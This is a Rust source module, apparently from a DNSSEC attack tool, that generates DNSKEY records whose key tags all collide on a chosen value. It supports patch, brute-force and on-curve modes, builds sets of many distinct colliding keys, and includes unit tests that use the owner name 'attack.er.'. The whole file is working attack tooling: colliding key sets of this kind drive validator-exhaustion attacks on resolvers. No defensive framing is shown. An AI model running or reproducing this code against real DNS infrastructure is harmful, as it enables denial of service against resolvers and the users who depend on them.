//! Forging of distinct DNSKEY records that share one key tag.

use std::collections::HashSet;

use rand::{RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};

use super::keytag::compute_keytag;
use super::records::{DnskeyRecord, DNSSEC_PROTOCOL};
use super::signing::keypair_from_rng;
use super::{KeyforgeError, DEFAULT_TTL};
use crate::wire::registry::RSA_EXPONENT_PREFIX;
use crate::wire::{Cipher, DnsName};

/// Trial cap for the random-regeneration modes.
pub const MAX_TRIALS: u64 = 1 << 24;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum ForgeMode {
    /// Random key bytes, then one 16-bit word solved for the target tag.
    #[default]
    Patch,
    /// Fresh random key bytes until the tag matches.
    Bruteforce,
    /// Genuine key pairs until the tag matches. Points are on-curve.
    OnCurve,
}

fn random_public_key(cipher: Cipher, rng: &mut ChaCha20Rng) -> Vec<u8> {
    let mut key = vec![0u8; cipher.public_key_len()];
    if cipher.is_rsa() {
        key[..4].copy_from_slice(&RSA_EXPONENT_PREFIX);
        rng.fill_bytes(&mut key[4..]);
        // keep the modulus full-width and odd
        key[4] |= 0x80;
        let last = key.len() - 1;
        key[last] |= 1;
    } else {
        rng.fill_bytes(&mut key);
    }
    key
}

/// Offset within the public key of the 16-bit word adjusted in patch mode.
/// It sits at an even rdata offset (the rdata header is four octets) and,
/// for RSA, away from the modulus' final octet which is forced odd.
fn patch_offset(cipher: Cipher) -> usize {
    let len = cipher.public_key_len();
    let last_even = if len % 2 == 0 { len - 2 } else { len - 3 };
    if cipher.is_rsa() {
        last_even - 2
    } else {
        last_even
    }
}

fn record(owner: &DnsName, flags: u16, cipher: Cipher, public_key: Vec<u8>) -> DnskeyRecord {
    DnskeyRecord {
        owner: owner.clone(),
        ttl: DEFAULT_TTL,
        flags,
        protocol: DNSSEC_PROTOCOL,
        algorithm: cipher.algorithm(),
        public_key,
    }
}

fn patch_to_tag(key: &mut DnskeyRecord, cipher: Cipher, target: u16) -> bool {
    let off = patch_offset(cipher);
    key.public_key[off] = 0;
    key.public_key[off + 1] = 0;
    let rdata = key.rdata();
    let mut sum: u32 = 0;
    for (i, &b) in rdata.iter().enumerate() {
        sum += if i & 1 == 0 { (b as u32) << 8 } else { b as u32 };
    }
    let folded = (sum + (sum >> 16)) & 0xFFFF;
    let base = (target as u32).wrapping_sub(folded) & 0xFFFF;
    // The single carry fold can shift the result by one; try the neighbours.
    for delta in [0u32, 0xFFFF, 1, 0xFFFE] {
        let word = ((base + delta) & 0xFFFF) as u16;
        key.public_key[off..off + 2].copy_from_slice(&word.to_be_bytes());
        if key.key_tag() == target {
            return true;
        }
    }
    false
}

pub(crate) fn forge_with_rng(
    cipher: Cipher,
    target_tag: u16,
    owner: &DnsName,
    flags: u16,
    mode: ForgeMode,
    rng: &mut ChaCha20Rng,
) -> Result<DnskeyRecord, KeyforgeError> {
    match mode {
        ForgeMode::Patch => {
            for _ in 0..MAX_TRIALS {
                let mut key = record(owner, flags, cipher, random_public_key(cipher, rng));
                if patch_to_tag(&mut key, cipher, target_tag) {
                    return Ok(key);
                }
            }
        }
        ForgeMode::Bruteforce => {
            for _ in 0..MAX_TRIALS {
                let key = record(owner, flags, cipher, random_public_key(cipher, rng));
                if compute_keytag(&key.rdata()) == target_tag {
                    return Ok(key);
                }
            }
        }
        ForgeMode::OnCurve => {
            for _ in 0..MAX_TRIALS {
                let pair = keypair_from_rng(cipher, owner, flags, DEFAULT_TTL, rng)?;
                if pair.key_tag() == target_tag {
                    return Ok(pair.dnskey().clone());
                }
            }
        }
    }
    Err(KeyforgeError::TrialCapExceeded {
        target_tag,
        trials: MAX_TRIALS,
    })
}

fn stream_rng(seed: u64, stream: u64) -> ChaCha20Rng {
    let mut rng = ChaCha20Rng::seed_from_u64(seed);
    rng.set_stream(stream);
    rng
}

/// A DNSKEY whose computed key tag equals `target_tag`.
pub fn forge_colliding_key(
    cipher: Cipher,
    target_tag: u16,
    owner: &DnsName,
    flags: u16,
    seed: u64,
    mode: ForgeMode,
) -> Result<DnskeyRecord, KeyforgeError> {
    forge_with_rng(cipher, target_tag, owner, flags, mode, &mut stream_rng(seed, 0))
}

/// `count` pairwise-distinct DNSKEYs sharing (owner, algorithm, key tag).
///
/// Key `i` is drawn from its own ChaCha stream, so the set is a pure
/// function of the inputs.
pub fn forge_colliding_set(
    cipher: Cipher,
    target_tag: u16,
    count: usize,
    owner: &DnsName,
    flags: u16,
    seed: u64,
    mode: ForgeMode,
) -> Result<Vec<DnskeyRecord>, KeyforgeError> {
    if count == 0 {
        return Err(KeyforgeError::EmptySet);
    }
    let mut seen = HashSet::with_capacity(count);
    let mut out = Vec::with_capacity(count);
    let mut stream = 0u64;
    while out.len() < count {
        let key = forge_with_rng(
            cipher,
            target_tag,
            owner,
            flags,
            mode,
            &mut stream_rng(seed, stream),
        )?;
        stream += 1;
        if seen.insert(key.public_key.clone()) {
            out.push(key);
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keyforge::records::ZSK_FLAGS;

    fn owner() -> DnsName {
        "attack.er.".parse().unwrap()
    }

    #[test]
    fn patch_hits_target_for_every_cipher() {
        for cipher in Cipher::ALL {
            for tag in [0u16, 1, 5353, 0xFFFF] {
                let k = forge_colliding_key(cipher, tag, &owner(), ZSK_FLAGS, 3, ForgeMode::Patch)
                    .unwrap();
                assert_eq!(k.key_tag(), tag, "{cipher} {tag}");
                assert!(k.is_well_formed());
            }
        }
    }

    #[test]
    fn alg14_and_alg15_examples() {
        let p384 = Cipher::EcdsaP384Sha384;
        let k1 = forge_colliding_key(p384, 5353, &owner(), ZSK_FLAGS, 1, ForgeMode::Patch).unwrap();
        let again = forge_colliding_key(p384, 5353, &owner(), ZSK_FLAGS, 1, ForgeMode::Patch).unwrap();
        let k2 = forge_colliding_key(p384, 5353, &owner(), ZSK_FLAGS, 2, ForgeMode::Patch).unwrap();
        assert_eq!(k1.key_tag(), 5353);
        assert_eq!(k1, again);
        assert_ne!(k1.public_key, k2.public_key);

        let ed = forge_colliding_key(Cipher::Ed25519, 0, &owner(), ZSK_FLAGS, 7, ForgeMode::Patch)
            .unwrap();
        assert_eq!(ed.key_tag(), 0);
    }

    #[test]
    fn bruteforce_mode() {
        let k = forge_colliding_key(
            Cipher::Ed25519,
            4242,
            &owner(),
            ZSK_FLAGS,
            11,
            ForgeMode::Bruteforce,
        )
        .unwrap();
        assert_eq!(k.key_tag(), 4242);
    }

    #[test]
    fn rsa_keys_keep_exponent_prefix() {
        let k = forge_colliding_key(Cipher::Rsa1024, 77, &owner(), ZSK_FLAGS, 5, ForgeMode::Patch)
            .unwrap();
        assert_eq!(&k.public_key[..4], &RSA_EXPONENT_PREFIX);
        assert_eq!(k.key_tag(), 77);
    }

    #[test]
    fn sets_are_distinct() {
        let set = forge_colliding_set(
            Cipher::EcdsaP384Sha384,
            5353,
            50,
            &owner(),
            ZSK_FLAGS,
            1,
            ForgeMode::Patch,
        )
        .unwrap();
        let unique: HashSet<_> = set.iter().map(|k| k.rdata()).collect();
        assert_eq!(unique.len(), 50);
        assert!(set.iter().all(|k| k.key_tag() == 5353 && k.owner == owner()));
        assert!(matches!(
            forge_colliding_set(Cipher::Ed25519, 1, 0, &owner(), ZSK_FLAGS, 1, ForgeMode::Patch),
            Err(KeyforgeError::EmptySet)
        ));
    }
}
